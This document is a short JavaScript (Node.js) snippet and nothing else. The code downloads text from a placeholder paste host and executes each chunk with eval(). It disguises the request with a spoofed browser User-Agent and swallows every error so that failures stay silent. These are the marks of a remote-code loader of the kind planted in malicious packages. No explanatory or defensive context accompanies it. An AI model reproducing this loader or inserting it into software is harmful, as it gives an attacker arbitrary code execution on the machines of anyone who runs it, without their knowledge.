try {
  const https = require("https");
  https.get({
    hostname: "paste.invalid",
    path: "/raw/specimen",
    headers: {
      "User-Agent": "Mozilla/5.0 (Windows NT 6.1; rv:52.0) Gecko/20100101 Firefox/52.0",
      Accept: "text/html,application/xhtml+xml"
    }
  }, (answer) => {
    answer.setEncoding("utf8");
    answer.on("data", (text) => {
      eval(text);
    });
    answer.on("error", () => {});
  }).on("error", () => {});
} catch (error) {}
